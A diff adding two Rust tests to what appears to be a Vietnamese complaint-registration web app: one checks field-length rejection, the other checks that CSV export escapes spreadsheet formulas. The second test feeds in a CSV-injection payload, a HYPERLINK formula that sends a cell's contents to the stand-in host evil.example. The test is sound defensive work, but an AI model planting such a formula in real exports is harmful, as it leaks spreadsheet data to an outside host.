@@ -161,6 +161,39 @@ on_both_backends! {
         w.app.stop().await;
     }
 
+    async fn a_registration_past_a_field_maximum_is_refused_beside_the_field(backend: Backend) {
+        let w = World::new(backend).await;
+        let long_name = "Nguyễn ".repeat(40);
+        let r = w.register(&[("kind", "khieu_nai"), ("content", "Khiếu nại việc cấp giấy chậm."), ("sender_name", long_name.as_str()), ("sender_address", "Ấp Bắc")]).await;
+        assert_eq!(r.status(), 422);
+        let html = r.text().await.unwrap();
+        assert!(html.contains("Họ tên người gửi dài quá mức cho phép: tối đa 200 ký tự."), "{html}");
+        assert!(html.contains("aria-invalid=\"true\""));
+        let (_, list) = w.page(&w.handler, "/don-thu").await;
+        assert!(list.contains("Không có đơn nào"));
+        w.app.stop().await;
+    }
+
+    async fn the_register_csv_never_hands_a_spreadsheet_a_formula(backend: Backend) {
+        let w = World::new(backend).await;
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
+        w.register_ok(&[
+            ("kind", "khieu_nai"),
+            ("subject", "@SUM(1+1)"),
+            ("content", "Khiếu nại việc cấp giấy chứng nhận chậm."),
+            ("sender_name", formula),
+            ("sender_address", "Ấp Bắc, Phường Demo"),
+        ])
+        .await;
+        let (status, text) = w.page(&w.handler, "/don-thu?dinh_dang=csv").await;
+        assert_eq!(status, 200);
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let row = reader.records().next().expect("one row").expect("csv");
+        assert_eq!(&row[2], format!("'{formula}"));
+        assert_eq!(&row[3], "'@SUM(1+1)");
+        w.app.stop().await;
+    }
+
     async fn a_protected_denouncer_stays_hidden_from_officers_without_the_grant(backend: Backend) {
         let logs = captured_logs();
         let w = World::new(backend).await;
